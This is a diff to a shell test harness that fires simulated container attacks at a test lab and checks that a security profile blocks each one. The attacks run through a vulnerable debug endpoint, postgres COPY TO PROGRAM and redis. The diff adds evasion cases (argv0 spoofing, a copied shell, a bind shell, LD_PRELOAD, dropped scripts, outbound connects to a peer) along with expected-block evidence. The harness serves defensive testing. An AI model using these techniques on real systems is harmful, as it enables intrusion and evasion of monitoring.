@@ -3,18 +3,35 @@
 # through the web app's vulnerable POST /debug on web-1 (curl from the client), postgres COPY ... TO PROGRAM
 # (psql from the client) or redis CONFIG SET / SAVE / REPLICAOF (redis-cli from the client). Never by
 # docker exec into the victim. Prints one line saying what it did; a stopped victim is reported, not an error.
-# Usage: testing/harness/attack.sh NAME|list   (HARNESS_PREFIX as for services.sh)
+# Usage: testing/harness/attack.sh NAME|list|expect NAME   (HARNESS_PREFIX as for services.sh)
+# `expect NAME` prints the evidence a block must name for the attack to count as stopped: RULE<TAB>TEXT, where
+# TEXT is a part of the decision's words.
 set -euo pipefail
 # shellcheck source=lib.sh
 . "$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)/lib.sh"
 
 ATTACKS=(web-shell web-apt web-curl web-reverse-shell web-nc web-write-usr-bin web-cpu-burn web-docker-socket
-  web-read-shadow web-new-peer web-inline-python web-ld-preload pg-shell pg-reverse-shell redis-write-usr-bin redis-new-peer)
-usage() { echo "usage: $(basename "$0") NAME|list   (NAME: ${ATTACKS[*]})" >&2; exit 2; }
-[ $# -eq 1 ] || usage
+  web-read-shadow web-new-peer web-inline-python web-ld-preload web-argv0 web-copied-shell web-quick-connect
+  web-bind-shell web-volume-drop web-healthcheck-race pg-shell pg-reverse-shell redis-write-usr-bin redis-new-peer)
+# The evidence each attack must be stopped by: the rule, and what the decision names.
+declare -A EXPECT=(
+  [web-shell]=$'profile\t/usr/bin/dash' [web-apt]=$'profile\t/usr/bin/apt-get' [web-curl]=$'profile\t/usr/bin/curl'
+  [web-reverse-shell]=$'profile\t/usr/bin/bash' [web-nc]=$'profile\t/usr/bin/nc' [web-write-usr-bin]=$'profile\twrite of /usr/bin/evil'
+  [web-cpu-burn]=$'resources\tCPU' [web-docker-socket]=$'profile\t/usr/bin/curl' [web-read-shadow]=$'profile\t/etc/shadow'
+  [web-new-peer]=$'profile\t:4444' [web-inline-python]=$'profile\tcode inline (-c)' [web-ld-preload]=$'profile\tLD_PRELOAD'
+  [web-argv0]=$'profile\t/usr/bin/dash' [web-copied-shell]=$'profile\t/tmp/python3' [web-quick-connect]=$'profile\t:4444'
+  [web-bind-shell]=$'profile\ttcp:4445' [web-volume-drop]=$'profile\t/var/log/app/run.sh'
+  [web-healthcheck-race]=$'profile\t/usr/bin/curl' [pg-shell]=$'profile\t/usr/bin/dash' [pg-reverse-shell]=$'profile\t/usr/bin/dash'
+  [redis-write-usr-bin]=$'profile\twrite of /usr/bin/' [redis-new-peer]=$'profile\t:4444')
+usage() { echo "usage: $(basename "$0") NAME|list|expect NAME   (NAME: ${ATTACKS[*]})" >&2; exit 2; }
+[ $# -ge 1 ] && [ $# -le 2 ] || usage
 name=$1
-if [ "$name" = list ]; then printf '%s\n' "${ATTACKS[@]}"; exit 0; fi
-[[ " ${ATTACKS[*]} " == *" $name "* ]] || usage
+if [ "$name" = list ] && [ $# -eq 1 ]; then printf '%s\n' "${ATTACKS[@]}"; exit 0; fi
+if [ "$name" = expect ] && [ $# -eq 2 ]; then
+  [[ -n ${EXPECT[$2]:-} ]] || usage
+  printf '%s\n' "${EXPECT[$2]}"; exit 0
+fi
+[ $# -eq 1 ] && [[ " ${ATTACKS[*]} " == *" $name "* ]] || usage
 
 case $name in
   web-*) victim=${P}web-1 ;;
@@ -61,7 +78,28 @@ case $name in
   web-inline-python)
     web_exec 10 /usr/bin/python3.11 -c "import socket; socket.create_connection(('${PEER}', ${PEER_PORT}), 3).close()" ;;
   web-ld-preload)
-    report "POST /debug exec [/usr/bin/python3.11 -V] with LD_PRELOAD=/tmp/hook.so -> $(debug '{"action":"exec","argv":["/usr/bin/python3.11","-V"],"env":{"LD_PRELOAD":"/tmp/hook.so"},"timeout":10}')" ;;
+    # A hooked program is one that lives: the service's own interpreter running the service's own peer script.
+    report "POST /debug exec [/usr/bin/python3.11 /srv/peer.py 4446] with LD_PRELOAD=/tmp/hook.so -> $(debug '{"action":"exec","argv":["/usr/bin/python3.11","/srv/peer.py","4446"],"env":{"LD_PRELOAD":"/tmp/hook.so"},"timeout":5}' | cut -c1-120)" ;;
+  web-argv0)
+    report "POST /debug exec /bin/dash as [python3 -c id] -> $(debug '{"action":"exec","executable":"/bin/dash","argv":["python3","-c","id"],"timeout":10}')" ;;
+  web-copied-shell)
+    out="copy /bin/dash to /tmp/python3 $(debug '{"action":"copy","from":"/bin/dash","to":"/tmp/python3","mode":"755"}')"
+    report "POST /debug $out, then exec -> $(debug '{"action":"exec","argv":["/tmp/python3","-c","id"],"timeout":10}')" ;;
+  web-quick-connect)
+    report "POST /debug connect ${PEER}:${PEER_PORT} and close at once -> $(debug "{\"action\":\"connect\",\"host\":\"${PEER}\",\"port\":${PEER_PORT},\"hold\":0}")" ;;
+  web-bind-shell)
+    report "POST /debug listen on TCP 4445 for 12s -> $(debug '{"action":"listen","port":4445,"hold":12}')" ;;
+  web-volume-drop)
+    out="write /var/log/app/run.sh (the log volume) $(debug '{"action":"write","path":"/var/log/app/run.sh","data":"#!/bin/sh\nid\n","mode":"755"}')"
+    report "POST /debug $out, then exec -> $(debug '{"action":"exec","argv":["/var/log/app/run.sh"],"timeout":10}')" ;;
+  web-healthcheck-race)
+    # The health check runs /usr/bin/curl every 2 s: run curl over and over across one.
+    out=""
+    for i in 1 2 3 4 5 6; do
+      out+=" #$i $(debug "{\"action\":\"exec\",\"argv\":[\"/usr/bin/curl\",\"-sS\",\"-m\",\"1\",\"http://${PEER}:${PEER_PORT}/\"],\"timeout\":5}" | cut -c1-60)"
+      sleep 0.4
+    done
+    report "POST /debug exec curl six times across a health check ->$out" ;;
   pg-shell)
     report "psql COPY (SELECT 1) TO PROGRAM 'id' -> $(psql_ -c "COPY (SELECT 1) TO PROGRAM 'id'") (id's output goes to the server's log)" ;;
   pg-reverse-shell)
